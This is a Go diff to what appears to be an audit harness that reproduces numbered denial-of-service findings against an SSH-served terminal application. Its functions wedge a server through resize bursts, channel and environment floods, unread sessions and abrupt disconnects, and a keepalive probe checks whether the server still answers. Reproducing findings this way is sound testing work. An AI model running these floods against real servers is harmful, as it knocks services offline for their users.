@@ -9,8 +9,8 @@ import (
 	"golang.org/x/crypto/ssh"
 )
 
-// ResizeBurst is finding 2: a keyless session at 200x60 that never reads
-// its output sends n window changes in a burst (the sizes alternate, so
+// ResizeBurst is finding 2: a keyless session at 200x60 that stops
+// reading its output once the post list is drawn sends n window changes in a burst (the sizes alternate, so
 // each one is a full repaint), then drops the TCP connection without
 // closing its channel, as a client that vanished does. On a server whose
 // request loop waits for its program, the connection stays wedged.
@@ -24,7 +24,7 @@ func ResizeBurst(ctx context.Context, t Target, n int) error {
 	if err != nil {
 		return err
 	}
-	if err := startTUI(sess, 200, 60, false); err != nil {
+	if err := startUnread(sess, 200, 60, t.wait()); err != nil {
 		return err
 	}
 	// A server that stops reading the connection must not hold the burst
@@ -39,7 +39,28 @@ func ResizeBurst(ctx context.Context, t Target, n int) error {
 			break // the server stopped reading: the point is made
 		}
 	}
+	// The burst wedges a server once the channel window is full: then it
+	// stops reading the connection and no longer answers. Leave then (or
+	// after half a wait, when it keeps answering).
+	for start := time.Now(); time.Since(start) < t.wait()/2 && answers(client, 500*time.Millisecond); {
+	}
 	return conn.Close() // no channel close, no disconnect message
+}
+
+// answers reports whether the server replies to a keepalive within
+// timeout.
+func answers(client *ssh.Client, timeout time.Duration) bool {
+	got := make(chan struct{})
+	go func() {
+		_, _, _ = client.SendRequest("keepalive@openssh.com", true, nil)
+		close(got)
+	}()
+	select {
+	case <-got:
+		return true
+	case <-time.After(timeout):
+		return false
+	}
 }
 
 // ChannelFlood is finding 6: up to n session channels on one keyless
@@ -61,7 +82,7 @@ func ChannelFlood(ctx context.Context, t Target, n int) (*Held, error) {
 			h.Refused++
 			continue
 		}
-		if err := startTUI(sess, 80, 24, true); err != nil {
+		if err := startTUI(sess, 80, 24); err != nil {
 			h.Refused++
 			_ = sess.Close()
 			continue
@@ -104,7 +125,7 @@ func EnvFlood(ctx context.Context, t Target, sessions, requests, size int) (*Hel
 			// A refusal is the server doing its job; keep sending.
 			_ = sess.Setenv(name, value)
 		}
-		if err := startTUI(sess, 80, 24, true); err != nil {
+		if err := startTUI(sess, 80, 24); err != nil {
 			h.Refused++
 			continue
 		}
@@ -115,7 +136,8 @@ func EnvFlood(ctx context.Context, t Target, sessions, requests, size int) (*Hel
 }
 
 // UnreadSessions is finding 6's second half: n keyless sessions with a
-// window w wide (a server clamps it) that never read their output. Each
+// window w wide (a server clamps it) that stop reading their output once
+// the post list is drawn. Each
 // then changes its size resizes times, a few milliseconds apart, so that
 // even clamped frames fill the channel window and the session's output
 // cannot drain. The sessions stay open until Close or until the server
@@ -135,7 +157,7 @@ func UnreadSessions(ctx context.Context, t Target, n, w, h, resizes int) (*Held,
 			held.Refused++
 			continue
 		}
-		if err := startTUI(sess, w, h, false); err != nil {
+		if err := startUnread(sess, w, h, t.wait()); err != nil {
 			held.Refused++
 			continue
 		}
